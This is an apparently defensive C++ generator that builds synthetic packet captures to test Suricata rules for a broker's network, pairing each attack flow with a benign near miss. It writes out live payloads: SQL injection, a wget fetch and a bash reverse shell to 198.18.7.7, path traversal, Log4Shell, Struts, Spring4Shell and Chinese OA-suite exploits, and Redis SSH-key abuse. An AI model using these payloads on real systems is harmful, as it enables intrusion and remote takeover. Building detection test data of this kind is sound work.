#include "bench/gen/attacks.h"

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string_view>
#include <vector>

#include "bench/gen/fix_msg.h"
#include "bench/gen/net.h"
#include "bench/gen/pcap_writer.h"
#include "bench/gen/rng.h"
#include "bench/gen/tcp_conn.h"

namespace tsgen {
namespace {

constexpr uint64_t kMs = 1000;
constexpr uint64_t kSec = 1000000;
constexpr uint64_t kSlotUs = 300 * kSec;  // each capture's share of the common timeline

// ---------------------------------------------------------------------------------------
// Address plan. $HOME_NET (Suricata's default: 10/8, 172.16/12, 192.168/16) holds the broker;
// outsiders come from the documentation ranges 203.0.113/24 and 198.51.100/24.

Host host(uint8_t a, uint8_t b, uint8_t c, uint8_t d) {
  Host h{};
  h.mac = Mac{{0x02, 0x00, a, b, c, d}};
  h.v4[0] = a, h.v4[1] = b, h.v4[2] = c, h.v4[3] = d;
  return h;
}

struct Net {
  // Outside.
  Host attacker = host(203, 0, 113, 66);     // web attacks, scans, exposed services
  Host stuffer = host(203, 0, 113, 67);      // credential stuffing, above the rate
  Host stuffer_slow = host(203, 0, 113, 68);  // at the rate limit, not above
  Host stuffer_paced = host(203, 0, 113, 69);  // many attempts, spread out
  Host ext_fix = host(203, 0, 113, 90);      // FIX client outside $HOME_NET
  Host ext_step = host(203, 0, 113, 91);     // STEP client outside $HOME_NET
  Host customer = host(198, 51, 100, 20);    // ordinary internet customer (near misses)
  Host venue = host(198, 51, 100, 77);       // an exchange / counterparty FIX acceptor
  // Inside.
  Host portal = host(10, 20, 0, 10);
  Host oa = host(10, 20, 0, 40);  // office-automation server (Weaver / Seeyon / Tongda)
  Host user = host(192, 168, 10, 20);
  Host oms1 = host(10, 10, 1, 11), oms2 = host(10, 10, 1, 12), oms3 = host(10, 10, 1, 13);
  Host fix44_gw = host(10, 10, 0, 10), fix42_gw = host(10, 10, 0, 11);
  Host step_gw = host(172, 16, 50, 20), step_client = host(172, 16, 1, 11);
  Host redis = host(10, 40, 0, 5), memcached = host(10, 40, 0, 6), files = host(10, 40, 0, 7);
  Host admin = host(10, 40, 1, 20);
};

constexpr uint16_t kHttp = 80, kFix44 = 9876, kFix42 = 9878, kStep = 9129, kVenue = 9880,
                   kRedis = 6379, kMemcached = 11211, kSmb = 445;

constexpr std::string_view kBrowser =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0 Safari/537.36";

// One write of a TCP connection. split > 0: the bytes go out as two segments, the first
// `split` bytes long (the place is chosen inside the pattern the rule looks for).
struct Turn {
  int dir;  // 0 client, 1 server
  std::string data;
  size_t split = 0;
};

// Where to cut `s` so that `needle` is split after its first `k` bytes; aborts if absent
// (a generator bug, never input-dependent).
size_t cut(const std::string& s, std::string_view needle, size_t k) {
  size_t at = s.find(needle);
  if (at == std::string::npos || k == 0 || k >= needle.size()) {
    std::fprintf(stderr, "tsgen: attacks: cannot split at \"%.*s\"\n",
                 static_cast<int>(needle.size()), needle.data());
    std::abort();
  }
  return at + k;
}

// ---------------------------------------------------------------------------------------
// One capture: flows generated one after another on a relative clock, written at the end.

class Cap {
 public:
  Cap(Rng& rng, uint64_t t0_us) : rng_(rng), t0_(t0_us) {}

  // Absolute time of the next flow (FIX SendingTime).
  uint64_t now() const { return t0_ + t_; }
  void pause(uint64_t us) { t_ += us; }

  // A TCP connection from c to s:port: handshake, the turns in order (each answered by a
  // pure ACK when the peer has nothing to say), FIN from the client.
  void tcp(const Host& c, const Host& s, uint16_t port, const std::vector<Turn>& turns) {
    FlowL2 l2{&c, &s, false, 0};
    uint16_t cport = static_cast<uint16_t>(32768 + rng_.below(28000));
    TcpConn conn(&ob_, l2, cport, port, r32(), r32(), r32(), r32());
    uint64_t rtt = 200 + rng_.below(600);
    uint64_t t = conn.open(t_, rtt);
    for (size_t i = 0; i < turns.size(); ++i) {
      const Turn& tu = turns[i];
      // Client think time before a request; server processing time before a reply.
      t += tu.dir == 0 ? 300 + rng_.below(1500) : rtt + 200 + rng_.below(800);
      t = conn.send(tu.dir, t, tu.data, tu.split, 40 + rng_.below(200));
      bool peer_replies = i + 1 < turns.size() && turns[i + 1].dir != tu.dir;
      if (!peer_replies) t = conn.ack(1 - tu.dir, t + 30 + rng_.below(60));
    }
    t = conn.close(0, t + 500 + rng_.below(2000), rtt);
    t_ = t + 2 * kMs + rng_.below(3 * kMs);
  }

  // A UDP request from c to s:port and, if non-empty, the reply.
  void udp(const Host& c, const Host& s, uint16_t port, std::string_view req,
           std::string_view resp) {
    uint16_t cport = static_cast<uint16_t>(32768 + rng_.below(28000));
    emit_udp(ob_, t_, c, s, s.mac, false, 0, cport, port,
             reinterpret_cast<const uint8_t*>(req.data()), req.size(), 64,
             static_cast<uint16_t>(rng_.next()), scratch_);
    t_ += 150 + rng_.below(400);
    if (!resp.empty()) {
      emit_udp(ob_, t_, s, c, c.mac, false, 0, port, cport,
               reinterpret_cast<const uint8_t*>(resp.data()), resp.size(), 64,
               static_cast<uint16_t>(rng_.next()), scratch_);
    }
    t_ += 2 * kMs + rng_.below(3 * kMs);
  }

  bool write(const std::string& path, uint64_t* packets, uint64_t* bytes) {
    ob_.sort();
    PcapWriter w(path);
    if (!w.ok()) {
      std::fprintf(stderr, "tsgen: cannot open %s: %s\n", path.c_str(), std::strerror(errno));
      return false;
    }
    for (; !ob_.empty(); ob_.pop()) {
      const Outbox::Entry& e = ob_.front();
      w.write(t0_ + e.t, ob_.data(e), e.len);
    }
    *packets += w.packets();
    *bytes += w.frame_bytes();
    if (!w.close()) {
      std::fprintf(stderr, "tsgen: write to %s failed\n", path.c_str());
      return false;
    }
    return true;
  }

 private:
  uint32_t r32() { return static_cast<uint32_t>(rng_.next()); }

  Rng& rng_;
  uint64_t t0_;
  uint64_t t_ = 0;
  Outbox ob_;
  Bytes scratch_;
};

// ---------------------------------------------------------------------------------------
// Protocol payloads.

std::string http_request(std::string_view method, std::string_view target,
                         std::string_view host_name, std::string_view ua,
                         std::string_view extra_headers = {}, std::string_view body = {},
                         std::string_view ctype = "application/x-www-form-urlencoded") {
  std::string r;
  r.append(method).append(" ").append(target).append(" HTTP/1.1\r\nHost: ").append(host_name);
  r.append("\r\nUser-Agent: ").append(ua).append("\r\nAccept: */*\r\n");
  r.append(extra_headers);
  if (!body.empty() || method == "POST") {
    r.append("Content-Type: ").append(ctype).append("\r\nContent-Length: ");
    r.append(std::to_string(body.size())).append("\r\n");
  }
  r.append("Connection: close\r\n\r\n").append(body);
  return r;
}

std::string http_get(std::string_view target, std::string_view ua = kBrowser,
                     std::string_view extra_headers = {}) {
  return http_request("GET", target, "portal.broker.internal", ua, extra_headers);
}
std::string http_post(std::string_view target, std::string_view body,
                      std::string_view ua = kBrowser) {
  return http_request("POST", target, "portal.broker.internal", ua, {}, body);
}
std::string oa_get(std::string_view target) {
  return http_request("GET", target, "oa.broker.internal", kBrowser);
}
std::string oa_post(std::string_view target, std::string_view body) {
  return http_request("POST", target, "oa.broker.internal", kBrowser, {}, body);
}

std::string http_response(int status, std::string_view body,
                          std::string_view ctype = "text/html; charset=utf-8") {
  const char* reason = status == 200   ? "OK"
                       : status == 302 ? "Found"
                       : status == 400 ? "Bad Request"
                       : status == 403 ? "Forbidden"
                       : status == 404 ? "Not Found"
                                       : "Internal Server Error";
  std::string r = "HTTP/1.1 " + std::to_string(status) + " " + reason +
                  "\r\nServer: nginx\r\nContent-Type: ";
  r.append(ctype).append("\r\nContent-Length: ").append(std::to_string(body.size()));
  r.append("\r\nConnection: close\r\n\r\n").append(body);
  return r;
}

// A request and the server's answer on one connection.
std::vector<Turn> exchange(std::string req, int status = 200, std::string_view body = "<html></html>\n",
                           size_t split = 0) {
  return {{0, std::move(req), split}, {1, http_response(status, body), 0}};
}

// A FIX/STEP session: client Logon with `fields`, acceptor Logon, client Logout, acceptor
// Logout. `split_needle`/`split_k`: where to cut the client Logon into two segments.
std::vector<Turn> fix_session(uint64_t t, std::string_view begin, std::string_view sender,
                              std::string_view target,
                              const std::vector<std::pair<int, std::string>>& fields,
                              std::string_view split_needle = {}, size_t split_k = 0) {
  FixBuilder fb;
  std::string logon, ack, out, out_ack;
  fb.start(begin, "A", sender, target, 1, t);
  fb.add(98, int64_t{0});
  fb.add(108, int64_t{30});
  if (!begin.starts_with("FIX.4.2")) fb.add(141, "Y");
  for (const auto& [tag, v] : fields) fb.add(tag, v);
  fb.finish(logon);
  fb.start(begin, "A", target, sender, 1, t + 2 * kMs);
  fb.add(98, int64_t{0});
  fb.add(108, int64_t{30});
  if (!begin.starts_with("FIX.4.2")) fb.add(141, "Y");
  fb.finish(ack);
  fb.start(begin, "5", sender, target, 2, t + 20 * kMs);
  fb.finish(out);
  fb.start(begin, "5", target, sender, 2, t + 22 * kMs);
  fb.finish(out_ack);
  size_t split = split_needle.empty() ? 0 : cut(logon, split_needle, split_k);
  return {{0, logon, split}, {1, ack, 0}, {0, out, 0}, {1, out_ack, 0}};
}

// Redis RESP array of bulk strings, as redis-cli and client libraries send commands.
std::string resp(std::initializer_list<std::string_view> args) {
  std::string r = "*" + std::to_string(args.size()) + "\r\n";
  for (std::string_view a : args) {
    r += "$" + std::to_string(a.size()) + "\r\n";
    r.append(a).append("\r\n");
  }
  return r;
}

// A RESP bulk-string reply.
std::string bulk(std::string_view v) {
  std::string r = "$" + std::to_string(v.size()) + "\r\n";
  r.append(v).append("\r\n");
  return r;
}

// NetBIOS session message carrying an SMB2 NEGOTIATE request (dialects 2.0.2, 2.1, 3.0).
std::string smb2_negotiate() {
  Bytes b;
  put32(b, 0);  // NetBIOS length, filled in below
  put8(b, 0xfe);
  put(b, std::string_view("SMB"));
  const uint8_t hdr_rest[] = {64, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0,
                              0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
                              0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0};
  put(b, hdr_rest, sizeof hdr_rest);
  const uint8_t body[] = {36, 0, 3, 0, 1, 0, 0, 0, 0, 0, 0, 0,
                          0x5a, 0x1c, 0x3e, 0x77, 0x10, 0x42, 0x4b, 0x8e,  // client GUID
                          0x91, 0x02, 0xc4, 0x6d, 0x20, 0x33, 0x7a, 0x05,
                          0, 0, 0, 0, 0, 0, 0, 0,  // client start time
                          0x02, 0x02, 0x10, 0x02, 0x00, 0x03};
  put(b, body, sizeof body);
  set32(b.data(), static_cast<uint32_t>(b.size() - 4));
  return std::string(b.begin(), b.end());
}

// The server's SMB2 NEGOTIATE response, abbreviated (dialect 3.0, no security blob).
std::string smb2_negotiate_reply() {
  Bytes b;
  put32(b, 0);
  put8(b, 0xfe);
  put(b, std::string_view("SMB"));
  const uint8_t hdr_rest[] = {64, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0, 0, 0,
                              0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
                              0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0};
  put(b, hdr_rest, sizeof hdr_rest);
  const uint8_t body[] = {65, 0, 1, 0, 0x00, 0x03, 0, 0,                 // size, signing, 3.0
                          0x11, 0x22, 0x33, 0x44, 0x55, 0x66, 0x77, 0x88,  // server GUID
                          0x99, 0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff, 0x00,
                          0x2f, 0, 0, 0,                                   // capabilities
                          0, 0, 0x80, 0, 0, 0, 0x80, 0, 0, 0, 0x80, 0,     // max transact/read/write
                          0x00, 0x80, 0x3e, 0xd5, 0xde, 0xb1, 0xda, 0x01,  // system time
                          0, 0, 0, 0, 0, 0, 0, 0,                          // server start time
                          0x80, 0, 0, 0,                                   // security buffer: none
                          0, 0, 0, 0,                                      // reserved
                          0};
  put(b, body, sizeof body);
  set32(b.data(), static_cast<uint32_t>(b.size() - 4));
  return std::string(b.begin(), b.end());
}

// Memcached UDP frame header (request id, sequence 0, 1 datagram, reserved) and a command.
std::string memcached_udp(uint16_t id, std::string_view cmd) {
  std::string r;
  r.push_back(static_cast<char>(id >> 8));
  r.push_back(static_cast<char>(id & 0xff));
  r.append(std::string_view("\0\0\0\1\0\0", 6));
  r.append(cmd);
  return r;
}

// ---------------------------------------------------------------------------------------
// The cases: one per shipped rule, positive and near miss. Keep in sid order; the test
// lists the alerts each capture must produce.

using Build = void (*)(Cap&, const Net&);
struct Case {
  unsigned sid;
  Build pos;
  Build neg;
};

const std::vector<std::pair<int, std::string>> kUserPw44 = {{553, "uOMS07"}, {554, "s3cr3t!Pw"}};

const Case kCases[] = {
    // ---- trading.rules
    {8100001,
     // FIX 4.4 logon from outside with 553/554; the Logon is cut between 35=A and 554=.
     [](Cap& c, const Net& n) {
       c.tcp(n.ext_fix, n.fix44_gw, kFix44,
             fix_session(c.now(), "FIX.4.4", "EXTCLI9", "GW44", kUserPw44, "\x01" "98=", 1));
     },
     // The same logon from the trading LAN; a TLS hello from outside to the same port.
     [](Cap& c, const Net& n) {
       c.tcp(n.oms1, n.fix44_gw, kFix44, fix_session(c.now(), "FIX.4.4", "OMS07", "GW44", kUserPw44));
       std::string hello("\x16\x03\x01\x00\x2d\x01\x00\x00\x29\x03\x03", 11);
       hello.append(32, '\x5a');
       hello.append(std::string_view("\x00\x00\x02\x13\x01\x01\x00", 7));
       c.tcp(n.ext_fix, n.fix44_gw, kFix44, {{0, hello, 0}});
     }},
    {8100002,
     [](Cap& c, const Net& n) {
       c.tcp(n.oms2, n.venue, kVenue,
             fix_session(c.now(), "FIX.4.4", "BRK0451", "XVENUE", {{553, "brk0451"}, {554, "Venue#2024"}}));
     },
     // Logon to the venue without a password (certificate/IP-authenticated session).
     [](Cap& c, const Net& n) {
       c.tcp(n.oms2, n.venue, kVenue,
             fix_session(c.now(), "FIX.4.4", "BRK0451", "XVENUE", {{553, "brk0451"}}));
     }},
    {8100003,
     // RawData credentials both ways across the boundary: out to the venue, in from outside.
     [](Cap& c, const Net& n) {
       c.tcp(n.oms3, n.venue, kVenue,
             fix_session(c.now(), "FIX.4.2", "BRK0452", "XVENUE", {{95, "10"}, {96, "Pw4x!7Qz#9"}}));
       c.tcp(n.ext_fix, n.fix42_gw, kFix42,
             fix_session(c.now(), "FIX.4.2", "EXTCLI9", "GW42", {{95, "8"}, {96, "hunter22"}}));
     },
     // RawData logon inside the trading LAN; a 4.2 logon to the venue without RawData.
     [](Cap& c, const Net& n) {
       c.tcp(n.oms3, n.fix42_gw, kFix42,
             fix_session(c.now(), "FIX.4.2", "OMS13", "GW42", {{95, "8"}, {96, "hunter22"}}));
       c.tcp(n.oms3, n.venue, kVenue, fix_session(c.now(), "FIX.4.2", "BRK0452", "XVENUE", {}));
     }},
    {8100010,
     [](Cap& c, const Net& n) {
       c.tcp(n.ext_step, n.step_gw, kStep, fix_session(c.now(), "STEP.1.0.0", "EXT091", "SSEGW", {}));
     },
     // The STEP logon from the DMZ client; an outsider's plain HTTP probe of the STEP port.
     [](Cap& c, const Net& n) {
       c.tcp(n.step_client, n.step_gw, kStep,
             fix_session(c.now(), "STEP.1.0.0", "BRK101", "SSEGW", {{553, "uBRK101"}, {554, "s3cr3t!Pw"}}));
       c.tcp(n.customer, n.step_gw, kStep, exchange(http_get("/"), 400, ""));
     }},

    // ---- web-trading-portal.rules
    {8100101,
     [](Cap& c, const Net& n) {
       std::string r = http_get("/api/orders?id=1%20UNION%20SELECT%20username,password%20FROM%20users--");
       c.tcp(n.attacker, n.portal, kHttp, exchange(r, 500, "", cut(r, "UNION%20SELECT", 10)));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp,
             exchange(http_get("/api/news?q=trade+union+selection+rules&lang=en")));
     }},
    {8100102,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp,
             exchange(http_post("/login", "username=admin%27+OR+%271%27%3D%271&password=x"), 302, ""));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp,
             exchange(http_post("/account/profile", "name=Jean+D%27Orsay&alias=O%27Brien+or+Smith"), 302, ""));
     }},
    {8100103,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp, exchange(http_get("/portfolio?acct=1%20AND%20SLEEP(5)"), 500, ""));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp, exchange(http_get("/help/sleep-mode?delay=5")));
     }},
    {8100104,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp,
             exchange(http_get("/api/quote?symbol=600519%27%20AND%20BENCHMARK(5000000,MD5(1))--%20"), 500, ""));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp,
             exchange(http_get("/api/benchmark?index=000300.SH&period=1y&compare=benchmark(CSI300)")));
     }},
    {8100105,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp,
             exchange(http_get("/api/orders?id=(select%20table_name%20from%20information_schema.tables%20limit%201)"), 500, ""));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp, exchange(http_get("/docs/mysql/information_schema-overview.html")));
     }},
    {8100106,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp,
             exchange(http_post("/login", "username=admin%27--&password=x"), 302, ""));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp,
             exchange(http_post("/account/profile", "company=Smith%27s+Holdings+--+Asia&band=Rock%27-n-roll&tag=%231"), 302, ""));
     }},
    {8100107,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp,
             exchange(http_get("/api/quotes?symbols=600519%27);DROP%20TABLE%20orders;--"), 500, ""));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp,
             exchange(http_post("/orders/note", "title=%27Q3%27%3B+update+pending+items&body=see+%27notes%27")));
     }},
    {8100110,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp, exchange(http_get("/api/ping?host=127.0.0.1%3Bwhoami")));
     },
     // A real ping; a cookie with "; id=" and an Android UA with "; id-id;".
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp,
             exchange(http_get("/api/ping?host=127.0.0.1&count=4",
                               "Mozilla/5.0 (Linux; U; Android 4.0.3; id-id; GT-I9100) AppleWebKit/534.30",
                               "Cookie: theme=dark; id=42; lang=zh-CN\r\n")));
     }},
    {8100111,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp,
             exchange(http_post("/tools/export", "file=report.csv;wget http://198.18.7.7/x.sh -O /tmp/x.sh&fmt=csv")));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp,
             exchange(http_post("/tools/export", "file=report.csv&fmt=csv&feed=http://198.18.7.7/feed.xml&client=wget-compatible")));
     }},
    {8100112,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp, exchange(http_get("/api/ping?host=%24(id)")));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp,
             exchange(http_post("/orders/note", "price=%24(12.50)&note=%24(document).ready")));
     }},
    {8100113,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp,
             exchange(http_post("/tools/export",
                                "file=x%3Bbash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F198.18.7.7%2F4444%200%3E%261&fmt=csv")));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp, exchange(http_get("/docs/dev/tcp-tuning.html")));
     }},
    {8100120,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp, exchange(http_get("/static/../../../../app/config/database.yml"), 404, ""));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp, exchange(http_get("/static/../app.js")));
     }},
    {8100121,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp,
             exchange(http_get("/download?file=..%2f..%2f..%2fapp%2fconfig%2fdatabase.yml"), 404, ""));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp,
             exchange(http_get("/search?q=%2e%2e%2e+loading&file=report..2024.pdf")));
     }},
    {8100122,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp, exchange(http_get("/report?template=/etc/passwd"), 404, ""));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp,
             exchange(http_post("/account/change_passwd", "old_passwd=Pw1%21&new_passwd=Pw2%21"), 302, ""));
       c.tcp(n.customer, n.portal, kHttp, exchange(http_get("/help/etc/passwd-policy.html")));
     }},
    {8100130,
     // 12 logins in 22 s, one connection each: alerts on the 11th and 12th.
     [](Cap& c, const Net& n) {
       for (int i = 0; i < 12; ++i) {
         std::string body = "username=trader" + std::to_string(4100 + i * 37) + "&password=Spring" +
                            std::to_string(2020 + i) + "%21";
         c.tcp(n.stuffer, n.portal, kHttp,
               exchange(http_post("/login", body, "python-requests/2.31.0"), 200, "{\"error\":\"bad credentials\"}"));
         c.pause(2 * kSec);
       }
     },
     // 10 logins in 18 s (the limit, not above); 12 logins 7 s apart from another source.
     [](Cap& c, const Net& n) {
       for (int i = 0; i < 10; ++i) {
         c.tcp(n.stuffer_slow, n.portal, kHttp,
               exchange(http_post("/login", "username=trader" + std::to_string(5100 + i) + "&password=x",
                                  "python-requests/2.31.0"), 200, "{\"error\":\"bad credentials\"}"));
         c.pause(2 * kSec);
       }
       for (int i = 0; i < 12; ++i) {
         c.tcp(n.stuffer_paced, n.portal, kHttp,
               exchange(http_post("/login", "username=trader" + std::to_string(6100 + i) + "&password=x",
                                  "python-requests/2.31.0"), 200, "{\"error\":\"bad credentials\"}"));
         c.pause(7 * kSec);
       }
     }},
    {8100131,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp,
             exchange(http_post("/login", "username=admin&password=123456", "Mozilla/5.0 (Hydra)"), 200, ""));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp,
             exchange(http_get("/blog/openbullet-and-hydra-credential-stuffing-explained")));
     }},

    // ---- scanners.rules
    {8100201,
     [](Cap& c, const Net& n) {
       std::string r = http_get("/nmaplowercheck1725240600",
                                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)");
       c.tcp(n.attacker, n.portal, kHttp, exchange(r, 404, "", cut(r, "Nmap Scripting Engine", 7)));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp,
             exchange(http_request("POST", "/api/search", "portal.broker.internal", kBrowser, "",
                                   "{\"q\":\"Nmap Scripting Engine\",\"scope\":\"kb\"}", "application/json")));
     }},
    {8100202,
     [](Cap& c, const Net& n) {
       std::string r = "GET / HTTP/1.0\r\nUser-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)\r\n"
                       "Accept: */*\r\n\r\n";
       c.tcp(n.attacker, n.portal, 8080, exchange(r, 404, ""));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, 8080, exchange(http_get("/mirror/masscan/masscan-1.3.2.tar.gz")));
     }},
    {8100203,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp,
             exchange(http_get("/", "Mozilla/5.0 zgrab/0.x", "Accept-Encoding: gzip\r\n")));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp, exchange(http_get("/tools/zgrab/README.md")));
     }},
    {8100204,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp,
             exchange(http_get("/login?username=admin&password=x", "sqlmap/1.7.2#stable (https://sqlmap.org)")));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp, exchange(http_get("/kb/sqlmap/whitelist.txt")));
     }},
    {8100205,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp,
             exchange(http_get("/cgi-bin/test-cgi", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000368)"), 404, ""));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp, exchange(http_get("/reports/(Nikto/2.1.6)-scan-2024Q3.html")));
     }},

    // ---- exploits.rules
    {8100301,
     [](Cap& c, const Net& n) {
       std::string r = http_get("/", "${jndi:ldap://198.18.7.7:1389/Exploit}");
       c.tcp(n.attacker, n.portal, kHttp, exchange(r, 200, "<html></html>\n", cut(r, "${jndi:", 4)));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp,
             exchange(http_post("/api/alerts/template", "subject=${user.name}: price alert&q=jndi+lookup+log4j")));
     }},
    {8100302,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp,
             exchange(http_get("/", kBrowser, "X-Api-Version: ${${lower:j}ndi:${lower:l}dap://198.18.7.7/a}\r\n")));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp,
             exchange(http_post("/api/alerts/template", "subject=${greeting:${locale}} ${user.name}")));
     }},
    {8100303,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp,
             exchange(http_get("/?q=%24%7Bjndi%3Aldap%3A%2F%2F198.18.7.7%2Fa%7D")));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp, exchange(http_get("/?price=%24%7B100%7D&cur=%24")));
     }},
    {8100310,
     [](Cap& c, const Net& n) {
       std::string r = http_post("/trade/index",
                                 "class.module.classLoader.resources.context.parent.pipeline.first.pattern="
                                 "%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp");
       c.tcp(n.attacker, n.portal, kHttp, exchange(r, 200, "", cut(r, "class.module.classLoader", 17)));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp,
             exchange(http_post("/trade/index", "class.name=Equity&module=orders&loader=classic")));
     }},
    {8100311,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp,
             exchange(http_request("POST", "/trade/upload.action", "portal.broker.internal", kBrowser,
                                   "", "x",
                                   "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
                                   "(#_memberAccess?(#_memberAccess=#dm):((#ctx=#context)))."
                                   "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))}")));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp, exchange(http_get("/javadoc/ognl/OgnlContext.html?see=ognl.OgnlContext")));
     }},
    {8100320,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.portal, kHttp,
             exchange(http_get("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
                               "&vars[0]=md5&vars[1][]=HelloThinkPHP")));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.customer, n.portal, kHttp, exchange(http_get("/index.php?s=/index/think/app/invokefunction-docs")));
     }},
    {8100330,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.oa, kHttp,
             exchange(oa_post("/weaver/bsh.servlet.BshServlet",
                              "bsh.script=exec(%22whoami%22)&bsh.servlet.captureOutErr=true&bsh.servlet.output=raw")));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.user, n.oa, kHttp, exchange(oa_get("/wui/index.html")));
       c.tcp(n.user, n.oa, kHttp, exchange(oa_get("/weaver/weaver.file.FileDownload?fileid=10234")));
     }},
    {8100331,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.oa, kHttp, exchange(oa_get("/seeyon/thirdpartyController.do.css/..;/ajax.do")));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.user, n.oa, kHttp, exchange(oa_get("/seeyon/main.do?method=main")));
       c.tcp(n.user, n.oa, kHttp, exchange(oa_get("/seeyon/common/all-min.css;jsessionid=8F3A9C")));
     }},
    {8100332,
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.oa, kHttp,
             exchange(oa_post("/ispirit/interface/gateway.php", "json={\"url\":\"/general/../../mysql5/my.ini\"}")));
     },
     [](Cap& c, const Net& n) {
       c.tcp(n.user, n.oa, kHttp,
             exchange(oa_post("/ispirit/interface/gateway.php", "json={\"url\":\"/general/index.php\"}")));
     }},

    // ---- exposed-services.rules
    {8100400,
     // Positive for the flowbit: AUTH first, so the CONFIG SET that follows stays quiet.
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.redis, kRedis,
             {{0, resp({"AUTH", "R3d1s-Pr0d"}), 0}, {1, "+OK\r\n", 0},
              {0, resp({"CONFIG", "SET", "dir", "/var/lib/redis"}), 0}, {1, "+OK\r\n", 0}});
     },
     // "AUTH" only as data (ECHO AUTH): no flowbit, so 8100401 fires.
     [](Cap& c, const Net& n) {
       c.tcp(n.attacker, n.redis, kRedis,
             {{0, resp({"ECHO", "AUTH"}), 0}, {1, "$4\r\nAUTH\r\n", 0},
              {0, resp({"CONFIG", "SET", "dir", "/var/lib/redis"}), 0}, {1, "+OK\r\n", 0}});
     }},
    {8100401,
     [](Cap& c, const Net& n) {
       std::string cmd = resp({"CONFIG", "SET", "dir", "/root/.ssh/"});
       c.tcp(n.attacker, n.redis, kRedis,
             {{0, resp({"INFO", "server"}), 0}, {1, bulk("# Server\r\nredis_version:7.0.15\r\nos:Linux\r\n"), 0},
